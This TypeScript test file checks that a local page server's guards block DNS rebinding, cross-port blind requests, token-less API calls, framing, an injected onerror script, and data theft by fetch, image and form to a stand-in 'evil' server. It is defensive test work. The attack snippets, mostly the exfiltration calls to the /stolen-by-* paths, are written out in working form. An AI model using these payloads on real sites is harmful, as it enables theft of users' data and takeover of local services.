import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import type { MiddlewareHandler } from "hono";
import type { BrowserContext, Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test, vi } from "vitest";
import { admitRun } from "../../src/ledger/admit.ts";
import type { Ledger } from "../../src/ledger/ledger.ts";
import { findRun } from "../../src/ledger/records.ts";
import type { RunId } from "../../src/run/ids.ts";
import { stagedPackage } from "../helpers/repository.ts";
import { admission } from "../ledger/samples.ts";
import { useScratch } from "../ledger/scratch.ts";
import { ATTEMPTS } from "./attempts.ts";
import { startBrowser } from "./browser.ts";
import { type APage, usePages } from "./server/a-page.ts";

/** What keeps others out: each is a part of `guard.ts`. */
type Guard = "host" | "token" | "origin" | "type" | "policy";

const off = vi.hoisted(() => new Set<Guard>());

vi.mock("../../src/page/server/guard.ts", async (original) => {
	const real = await original<typeof import("../../src/page/server/guard.ts")>();
	const unless =
		(guard: Guard, its: MiddlewareHandler): MiddlewareHandler =>
		(context, next) =>
			off.has(guard) ? next() : its(context, next);
	return {
		...real,
		secured: unless("policy", real.secured),
		ofThisHost: (port: () => number) => unless("host", real.ofThisHost(port)),
		withToken: (token: string) => unless("token", real.withToken(token)),
		fromOwnPage: unless("origin", real.fromOwnPage),
		jsonOnly: unless("type", real.jsonOnly),
	};
});

const scratch = useScratch();
const openPage = usePages();

interface Scene {
	page: APage;
	runId: RunId;
	browser: BrowserContext;
	/** Of the hostile server. */
	evilPort: number;
	/** The paths that the hostile server was asked for. */
	stolen: string[];
	isStopped(): boolean;
}

const origin = ({ page }: Scene): string => `http://127.0.0.1:${page.page.port}`;

/** A page that was served by somebody else under a name, before that name was made to point here. */
async function rebound({ browser, page }: Scene): Promise<{ evil: Page; target: string }> {
	const target = `http://evil.test:${page.page.port}`;
	const evil = await browser.newPage();
	await evil.route("**/rebound", (route) =>
		route.fulfill({ contentType: "text/html", body: "<!doctype html><title>evil</title><body>" }),
	);
	await evil.goto(`${target}/rebound`);
	return { evil, target };
}

async function ofAnotherPort(scene: Scene): Promise<{ evil: Page; target: string }> {
	const evil = await scene.browser.newPage();
	await evil.goto(`http://127.0.0.1:${scene.evilPort}/`);
	return { evil, target: origin(scene) };
}

async function got({ runId }: Scene, from: { evil: Page; target: string }, attempt: string): Promise<string> {
	const { evil, target } = from;
	const asked = JSON.stringify({ target, guess: "A".repeat(43), runId, only: [attempt] });
	const all = (await evil.evaluate(`(${ATTEMPTS})(${asked})`)) as Record<string, string>;
	return all[attempt] ?? "This attempt is not known.";
}

/** The user's own page, in which a text of a child was taken for markup or a script. */
async function userPage(scene: Scene): Promise<Page> {
	const user = await scene.browser.newPage();
	await user.goto(scene.page.page.url);
	await user.locator(`.row[data-run="${scene.runId}"]`).waitFor();
	return user;
}

/** One thing that somebody tries, the guards of which each is enough, and whether it happened. */
interface Attempt {
	what: string;
	stoppedBy: readonly Guard[];
	happens(scene: Scene): Promise<boolean>;
}

const BY_REBINDING: readonly Attempt[] = [
	{
		what: "a rebound name: list runs",
		stoppedBy: ["host", "token"],
		happens: async (scene) => (await got(scene, await rebound(scene), "list runs")).includes(scene.runId),
	},
	{
		what: "a rebound name: stop a run",
		stoppedBy: ["host", "token"],
		async happens(scene) {
			await got(scene, await rebound(scene), "stop, as JSON");
			return scene.isStopped();
		},
	},
	{
		what: "a rebound name: read the page",
		stoppedBy: ["host"],
		happens: async (scene) => (await got(scene, await rebound(scene), "read the page")).startsWith("200"),
	},
];

const BLIND = ["stop, as plain text", "send, as a form that looks like JSON"];

/** Its page cannot read the answer. It does not have to. */
const BLINDLY: readonly Attempt[] = BLIND.map((attempt) => ({
	what: `another port: ${attempt}`,
	stoppedBy: ["token", "origin", "type"],
	async happens(scene) {
		await got(scene, await ofAnotherPort(scene), attempt);
		return scene.isStopped();
	},
}));

const WITHOUT_BROWSER: readonly Attempt[] = [
	{
		what: "another program: list runs",
		stoppedBy: ["token"],
		happens: async ({ page, runId }) =>
			(await page.ask("/api/runs", { headers: { Authorization: undefined } })).body.includes(runId),
	},
];

const AGAINST_POLICY: readonly Attempt[] = [
	{
		what: "another port: show ours in a frame",
		stoppedBy: ["policy"],
		async happens(scene) {
			const { evil, target } = await ofAnotherPort(scene);
			await got(scene, { evil, target }, "a frame of the page");
			return evil.frames().some((frame) => frame.url().startsWith(target));
		},
	},
	{
		what: "markup in the page: run a script",
		stoppedBy: ["policy"],
		async happens(scene) {
			const user = await userPage(scene);
			return user.evaluate(
				`new Promise((resolve) => {
					window.pwned = () => resolve(true);
					try {
						document.body.innerHTML = '<img src="data:," onerror="pwned()">';
					} catch {
						resolve(false);
					}
				})`,
			);
		},
	},
	...["fetch", "picture", "form"].map(
		(way): Attempt => ({
			what: `a script in the page: send by ${way}`,
			stoppedBy: ["policy"],
			async happens(scene) {
				const user = await userPage(scene);
				const to = `http://127.0.0.1:${scene.evilPort}/stolen-by-${way}`;
				const ways: Record<string, string> = {
					fetch: `fetch(${JSON.stringify(to)}, { mode: "no-cors" }).catch(() => {})`,
					picture: `new Promise((resolve) => {
						const made = new Image();
						made.onload = made.onerror = resolve;
						made.src = ${JSON.stringify(to)};
					})`,
					form: `new Promise((resolve) => {
						addEventListener("securitypolicyviolation", resolve);
						addEventListener("pagehide", resolve);
						const made = document.createElement("form");
						made.action = ${JSON.stringify(to)};
						document.body.append(made);
						made.submit();
					})`,
				};
				// The page may leave for the address that it was sent to.
				await user.evaluate(ways[way] ?? "").catch(() => {});
				if (way === "form" && off.has("policy")) await user.waitForURL(`${to}*`);
				return scene.stolen.some((path) => path.startsWith(`/stolen-by-${way}`));
			},
		}),
	),
];

/**
 * Each attempt is made with its guards off, where it has to succeed: one that cannot is not a test of anything. Then it is made
 * with each of its guards on, and all others off.
 */
describe("what keeps others from the page", () => {
	let browser: BrowserContext;
	let evil: Server;
	let scene: Scene;
	let ledger: Ledger;
	const stolen: string[] = [];

	beforeAll(async () => {
		evil = createServer(({ url = "" }, response) => {
			stolen.push(url);
			response.writeHead(200, { "Content-Type": "text/html" }).end("<!doctype html><title>evil</title><body>");
		});
		await new Promise<void>((resolve) => void evil.listen(0, "127.0.0.1", resolve));
		browser = await startBrowser({ resolve: { "evil.test": "127.0.0.1" } });
	});
	afterAll(async () => {
		await browser?.close();
		evil?.closeAllConnections();
		evil?.close();
	});

	beforeEach(async () => {
		const page = await openPage(scratch.folder(), { bundle: join(stagedPackage(), "dist", "page") });
		ledger = await scratch.ledger(page.places.ledger);
		const runId = admitRun(ledger, admission({ mode: "background", at: Date.now() })).run.id;
		const { port: evilPort } = evil.address() as AddressInfo;
		stolen.length = 0;
		const isStopped = () => findRun(ledger, runId)?.run.stop !== undefined;
		scene = { page, runId, browser, evilPort, stolen, isStopped };
	});
	afterEach(async () => {
		off.clear();
		for (const page of browser.pages()) await page.close();
	});

	const attempts = [...BY_REBINDING, ...BLINDLY, ...WITHOUT_BROWSER, ...AGAINST_POLICY];

	test.each(attempts)("$what: it happens where no guard stops it", async ({ stoppedBy, happens }) => {
		for (const guard of stoppedBy) off.add(guard);
		expect(await happens(scene)).toBe(true);
	});

	const guarded = attempts.flatMap((attempt) => attempt.stoppedBy.map((guard) => ({ ...attempt, guard })));

	test.each(guarded)("$what: it does not where only the $guard guard is left", async ({ guard, happens }) => {
		for (const other of ["host", "token", "origin", "type", "policy"] as const) if (other !== guard) off.add(other);
		expect(await happens(scene)).toBe(false);
	});

	test("every guard is one that some attempt needs", () => {
		expect([...new Set(guarded.map(({ guard }) => guard))].sort()).toEqual([
			"host",
			"origin",
			"policy",
			"token",
			"type",
		]);
	});
});
